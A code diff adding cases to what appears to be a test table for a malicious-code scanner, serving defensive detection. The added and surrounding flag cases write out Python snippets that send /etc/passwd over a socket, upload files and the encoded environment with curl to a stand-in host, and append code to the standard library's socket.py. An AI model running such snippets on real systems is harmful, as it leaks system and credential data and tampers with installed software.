@@ -221,6 +221,11 @@ const CASES: Record<string, { flag: Case[]; pass: Case[] }> = {
         ]),
         min: 'critical',
       },
+      {
+        name: 'the account list sent over a plain socket',
+        src: py(['import socket', "s = socket.create_connection(('collect.example', 9000))", "s.sendall(open('/etc/passwd').read().encode())"]),
+        min: 'critical',
+      },
       { name: 'curl uploading a local file', src: py(['import os', "os.system('curl -F f=@/etc/hostname https://collect.example/u')"]), min: 'critical' },
       { name: 'the environment in a curl URL', src: py(['import os', 'os.system(\'curl "https://collect.example/e/$(env | base64 -w 0)"\')']), min: 'critical' },
       {
@@ -555,6 +560,11 @@ const CASES: Record<string, { flag: Case[]; pass: Case[] }> = {
         min: 'critical',
       },
       {
+        name: 'code appended beside the os module',
+        src: py(['import os', "p = os.path.join(os.path.dirname(os.__file__), 'socket.py')", "with open(p, 'a') as f:", "    f.write('print(1)')"]),
+        min: 'critical',
+      },
+      {
         name: 'browser shortcuts rewritten to load an extension',
         src: py([
           'from win32com.client import Dispatch',
@@ -567,6 +577,10 @@ const CASES: Record<string, { flag: Case[]; pass: Case[] }> = {
     ],
     pass: [
       { name: 'a module file read for its version', src: py(['import inspect, mypkg', "text = open(inspect.getsourcefile(mypkg)).read()"]) },
+      {
+        name: 'a version file written into its own package',
+        src: py(['import os, mypkg', "p = os.path.join(os.path.dirname(mypkg.__file__), '_version.py')", "with open(p, 'w') as f:", "    f.write('__version__ = \"1.0\"')"]),
+      },
       { name: 'a shutdown handler named in a string', src: py(['from setuptools import setup', "setup(name='x', entry_points={'console_scripts': ['shutdown-helper = x.cli:main']})"]) },
     ],
   },
